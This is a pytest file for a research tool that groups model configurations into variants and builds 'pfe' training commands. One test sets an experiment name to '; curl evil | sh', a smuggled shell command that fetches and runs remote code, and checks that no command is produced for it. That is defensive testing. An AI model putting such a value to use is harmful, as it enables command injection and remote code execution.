"""Variants: which models share a grid, and the commands that train them."""

import shlex
from collections import Counter
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lab_records import CONTROL, EXP1, EXP2, PAPER, configs_of
from primefourier.cli.app import run
from primefourier.cli.options import Sweep
from primefourier.encoding import PAPER_BASIS
from primefourier.lab.config import ModelConfig
from primefourier.lab.studies import EXPERIMENTS, Study, models_of, profile
from primefourier.lab.studies.variants import (
    Variant,
    find_variants,
    paper_variant,
    training_commands,
)
from small_models import small_config

P0 = PAPER_BASIS.primes
OTHER: dict[str, Any] = {
    "depth": 5,
    "operation": "subtract",
    "epochs": 24,
    "batch_size": 512,
    "learning_rate": 1e-3,
    "pairs": 70_000,
}


def paper_models(configs: list[ModelConfig]) -> list[ModelConfig]:
    return [c for v, models in find_variants(configs).items() if v.follows_paper for c in models]


def test_the_paper_is_one_variant_for_each_experiment() -> None:
    found = find_variants(PAPER)
    assert [v.experiment for v in found] == ["exp1", "control", "exp2"]
    assert [len(models) for models in found.values()] == [350, 350, 50]
    assert all(v.follows_paper and v.differences() == {} for v in found)


@pytest.mark.parametrize("name", OTHER)
@pytest.mark.parametrize("models", [EXP1[:4], CONTROL[:4], EXP2[:1]], ids=["exp1", "control", "2"])
def test_other_settings_are_another_variant(models: list[ModelConfig], name: str) -> None:
    changed = [replace(model, **{name: OTHER[name]}) for model in models]
    paper, other = find_variants([*changed, *models]).items()
    assert paper[0].follows_paper
    assert paper[1] == models
    assert other[0].differences() == {name: OTHER[name]}
    assert other[1] == changed


def test_every_setting_of_a_model_is_either_swept_or_tells_variants_apart() -> None:
    swept = {"modulus", "input_range", "primes", "seed"}
    known = {"experiment", "embedding", "trainer", *OTHER}
    assert set(EXP1[0].to_dict()) == swept | known
    assert known <= set(vars(next(iter(find_variants(EXP1[:1])))))


def test_another_shuffle_is_not_the_papers_control() -> None:
    pairs = configs_of("control", sizes=(4,), ranges=(100,), embedding="shuffled-pair")
    (variant,) = find_variants(pairs)
    assert variant.differences() == {"embedding": "shuffled-pair"}


def test_the_trainers_agree_but_stay_apart_and_the_fast_one_comes_first() -> None:
    plain = [replace(config, trainer="plain") for config in EXP1[:4]]
    fast, slow = find_variants([*plain, *EXP1[:4]])
    assert (fast.trainer, slow.trainer) == ("fast", "plain")
    assert fast.follows_paper
    assert slow.follows_paper


def test_the_papers_variants_are_those_of_its_models() -> None:
    assert [paper_variant(name) for name in EXPERIMENTS] == list(find_variants(PAPER))


def test_a_variant_knows_the_models_of_each_cell() -> None:
    other = configs_of(
        "control", primes=(2, 3, 7), sizes=(2, 3), ranges=(20, 30), seeds=(1, 2), **OTHER
    )
    for variant, models in find_variants([*PAPER, *other]).items():
        places = dict.fromkeys((*variant.study.cell_of(config), config.seed) for config in models)
        assert [config for place in places for config in variant.models(*place)] == models


def test_seeds_and_ranges_are_one_variant() -> None:
    configs = configs_of("exp1", sizes=(4,), ranges=(100, 123), seeds=(1, 2))
    assert list(find_variants(configs).values()) == [configs]


def test_sizes_from_one_pool_are_one_variant() -> None:
    for primes in (P0, (2, 3, 5, 7, 11)):
        configs = configs_of("exp1", primes=primes, sizes=(2, 3, 5), ranges=(100,))
        ((variant, models),) = find_variants(configs).items()
        assert models == configs
        assert variant.pool == primes
        assert variant.follows_paper == (primes == P0)


def test_other_primes_are_another_variant() -> None:
    (variant,) = find_variants(configs_of("exp1", primes=(3, 5, 7, 13), sizes=(4,), ranges=(100,)))
    assert variant.differences() == {"primes": [3, 5, 7, 13]}
    (variant,) = find_variants(configs_of("exp2", primes=P0[:7], moduli=(15,), ranges=(100,)))
    assert variant.differences() == {"primes": list(P0[:7])}
    (variant,) = find_variants(configs_of("exp2", primes=P0[:9], moduli=(15,), ranges=(100,)))
    assert variant.differences() == {"primes": list(P0[:9])}


@pytest.mark.parametrize("settings", [{}, {"depth": 2}])
def test_a_longer_pool_does_not_take_the_papers_models_away(settings: dict[str, Any]) -> None:
    longer = configs_of("exp1", primes=(*P0, 61), sizes=(17,), ranges=(100,), **settings)
    found = find_variants([*longer, *EXP1])
    paper = next(v for v in found if v.follows_paper)
    assert found[paper] == EXP1
    other = next(v for v in found if not v.follows_paper)
    assert other.pool == (*P0, 61)
    assert other.differences() == {**settings, "primes": [*P0, 61]}


def test_a_small_size_belongs_to_every_pool_that_begins_with_it() -> None:
    one = configs_of("exp1", primes=(3, 5, 7, 13), sizes=(2, 4), ranges=(100,))
    two = configs_of("exp1", primes=(3, 5, 7, 17), sizes=(2, 4), ranges=(100,))
    found = find_variants([*one, *two])
    assert {v.pool: models for v, models in found.items()} == {
        P0: one[:2],
        (3, 5, 7, 13): one,
        (3, 5, 7, 17): [*one[:2], *two[2:]],
    }


def test_a_variant_does_not_depend_on_what_else_is_planned() -> None:
    small = configs_of("exp1", sizes=(4,), ranges=(100,), depth=3)
    (alone,) = find_variants(small)
    found = find_variants([*small, *configs_of("exp1", sizes=(8,), ranges=(100,), depth=3)])
    assert list(found) == [alone]


def test_models_of_unknown_experiments_and_repeated_ones_are_left_out() -> None:
    assert find_variants([replace(EXP1[0], experiment="mine")]) == {}
    assert list(find_variants([EXP1[0], EXP1[0]]).values()) == [[EXP1[0]]]


@given(st.lists(st.sampled_from([
    *EXP1[:8], *EXP2[:3],
    *configs_of("exp1", primes=(*P0, 61), sizes=(4, 17), ranges=(100,)),
    *configs_of("exp1", primes=(2, 3), sizes=(1, 2), ranges=(100,), depth=1),
    *configs_of("exp2", primes=(3, 5), moduli=(15,), ranges=(100,)),
]), max_size=30))  # fmt: skip
def test_every_model_is_in_a_variant_whose_pool_begins_with_its_primes(
    configs: list[ModelConfig],
) -> None:
    found = find_variants(configs)
    assert {c.key for models in found.values() for c in models} == {c.key for c in configs}
    for variant, models in found.items():
        assert max(Counter(c.key for c in models).values()) == 1
        for config in models:
            assert config.primes == variant.pool[: len(config.primes)]
            assert variant == Variant.of(config, variant.pool)
    assert set(paper_models(configs)) == set(configs) & {*EXP1, *EXP2}


EVERYTHING: dict[str, Any] = {**OTHER, "trainer": "plain", "seeds": (1, 9)}
PLANS = {
    "nothing": [],
    "a profile": models_of(profile("quick")),
    "a profile with seeds": models_of(profile("smoke", seeds=(7, 42))),
    "two experiments": [*configs_of("exp1", sizes=(4, 8), ranges=(100, 500)), *PAPER[-3:]],
    "seeds for some": [
        *configs_of("exp1", sizes=(4, 6), ranges=(100, 500), seeds=(42, 43)),
        *configs_of("exp1", sizes=(8,), ranges=(100,)),
        *configs_of("exp2", moduli=(15,), ranges=(100,), seeds=(1,)),
    ],
    "settings": configs_of("exp2", primes=(2, 3), moduli=(6, 12), ranges=(20,), **EVERYTHING),
    "a rate with many digits": configs_of("exp2", learning_rate=0.1 + 0.2, ranges=(100,)),
    "another exp1": configs_of("exp1", primes=(2, 3, 7), sizes=(1, 3), ranges=(20,), **EVERYTHING),
    "a control": configs_of("control", sizes=(4,), ranges=(100,), embedding="shuffled-block"),
    "a longer pool": configs_of("exp1", primes=(*P0, 61), sizes=(4, 17), ranges=(9,)),
    "paper's primes for exp2": configs_of("exp2", primes=P0, ranges=(100,)),
}


@pytest.mark.parametrize("probe", [False, True])
@pytest.mark.parametrize("name", PLANS)
def test_the_commands_train_the_planned_models_and_no_others(
    name: str, probe: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    trained: list[Study] = []

    def remember(studies: list[Study], _: Path, sweep: Sweep) -> object:
        trained.extend(studies)
        assert sweep.probe == (probe and name != "a control")
        return SimpleNamespace(interrupted=True, progress=SimpleNamespace(failed=0))

    monkeypatch.setattr("primefourier.cli.train._train", remember)
    commands = training_commands(PLANS[name], probe=probe)
    for command in commands:
        first, *words = shlex.split(command)
        assert first == "pfe"
        assert run([*words, "--out", "somewhere"]) == 1
    assert {model.key for model in models_of(trained)} == {model.key for model in PLANS[name]}
    assert len(commands) <= 3


def test_the_command_of_a_profile_names_it() -> None:
    assert training_commands(PAPER, probe=True) == ["pfe reproduce --profile paper --probe"]
    two = models_of(profile("smoke", seeds=(7, 42)))
    assert training_commands(two, probe=False) == ["pfe reproduce --profile smoke --seeds 7,42"]


def test_models_of_other_experiments_have_no_command() -> None:
    strange = small_config(experiment="; curl evil | sh")
    assert training_commands([strange], probe=False) == []
    known = replace(strange, experiment="exp1")
    (command,) = training_commands([strange, known], probe=False)
    assert command.startswith("pfe run exp1 ")


def test_settings_of_the_paper_are_left_out_of_the_command() -> None:
    assert paper_variant("control").command == ["pfe", "run", "control"]
    (variant,) = find_variants(
        configs_of("exp2", primes=(2, 3), learning_rate=0.5, trainer="plain", ranges=(100,))
    )
    options = ["--learning-rate", "0.5", "--primes", "2,3", "--trainer", "plain"]
    assert variant.command == ["pfe", "run", "exp2", *options]
    assert variant.title == "Experiment 2, learning rate 0.5, primes 2, 3"


@pytest.mark.parametrize(
    ("model", "message"),
    [
        (small_config(embedding="shuffled-pair"), "is an option of control, not of exp1"),
        (small_config(experiment="control", embedding="pfe"), "'pfe' is that of exp1"),
    ],
)
def test_commands_for_models_that_no_study_contains_are_refused(
    model: ModelConfig, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for variant in find_variants([model]):
        assert run([*variant.command[1:], "--out", str(tmp_path / "out")]) == 2
        assert message in capsys.readouterr().err
        assert not (tmp_path / "out").exists()
